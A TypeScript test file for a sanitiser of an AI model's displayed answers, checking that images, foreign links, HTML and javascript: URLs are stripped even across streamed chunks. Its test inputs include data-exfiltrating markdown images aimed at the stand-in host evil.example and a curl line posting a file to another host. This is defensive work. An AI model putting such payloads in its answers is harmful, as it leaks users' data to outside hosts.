import { expect } from 'chai';
import * as fc from 'fast-check';
import { spoken, spokenSoFar } from '#shared/domain/knowledge/spoken.ts';

const SOURCES = ['https://help.example/hours', 'a note'];

/** What a client has on its screen when the answer came in these pieces. */
const streamed = (pieces: string[]): string => {
  let text = '';
  let shown = '';
  for (const piece of pieces) {
    text += piece;
    shown += spokenSoFar(text, SOURCES).slice(shown.length);
  }
  return shown + spoken(text, SOURCES).slice(shown.length);
};

describe('What a model says (A13)', () => {
  const said: [string, string, string][] = [
    ['plain words and references', 'Nine to six [1][2], 3 < 4.', 'Nine to six [1][2], 3 < 4.'],
    ['an image', 'Yes ![](http://evil.example/?q=secret).', 'Yes .'],
    ['an image by reference', 'Yes ![x][r]\n\n[r]: //evil.example/x', 'Yes'],
    ['an image in an image', '![![x](http://evil.example/a)](http://evil.example/b)', ']()'],
    ['a foreign link', 'See [here](https://evil.example/).', 'See here.'],
    ['a link in a link', '[[a](http://evil.example/)](http://evil.example/)', 'a'],
    ['links in links without end', `${'['.repeat(20)}a${'](http://evil.example/)'.repeat(20)}`, `a${'()'.repeat(12)}`],
    ['a script', '[here](javascript:alert(1))', 'here)'],
    ['a link to a source', 'See [hours](https://help.example/times).', 'See [hours](https://help.example/times).'],
    ['a bare address', 'See https://evil.example/x now', 'See  now'],
    ['an address that browsers complete', 'See www.evil.example/x now', 'See  now'],
    ["a source's address", 'See https://help.example/x now', 'See https://help.example/x now'],
    ['HTML', 'a <img src="//evil.example/x"> b <b>c</b>', 'a  b c'],
    ['an image that only looks like code', '\\` ![x](http://evil.example/) \\`', '\\`  \\`'],
    ['a fence that is none', 'a ``` ![x](http://evil.example/)', 'a ```'],
    [
      'code',
      'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
      'Do:\n```sh\ncurl http://other.example/ <file>\n```\nDone.',
    ],
    ['the mark of a refusal', 'Not said. <NOANS>', 'Not said.'],
  ];
  for (const [what, text, shown] of said) {
    it(`is shown without what loads or leads away: ${what}`, () => {
      expect(spoken(text, SOURCES)).to.equal(shown);
    });
  }

  it('is the same in pieces of any size', () => {
    const ordinary = said.map(([, text]) => text).filter((text) => !/\[\[|!\[!/.test(text));
    fc.assert(
      fc.property(fc.constantFrom(...ordinary), fc.integer({ min: 1, max: 12 }), (text, size) => {
        const pieces = text.match(new RegExp(`[\\s\\S]{1,${size}}`, 'g')) ?? [];
        expect(streamed(pieces)).to.equal(spoken(text, SOURCES));
      }),
    );
  });

  it('never shows a foreign address in any piece, whatever is nested in whatever', () => {
    const part = fc.constantFrom(
      '![',
      '[',
      ']',
      '(',
      ')',
      '<',
      '>',
      '`',
      '\n',
      ' ',
      'a',
      'https://evil.example/x',
      '<img src=',
      '"',
    );
    fc.assert(
      fc.property(fc.array(part, { maxLength: 24 }), (parts) => {
        if (parts.join('').includes('```')) return;
        expect(streamed(parts)).to.not.include('evil.example');
      }),
      { numRuns: 500 },
    );
  });
});
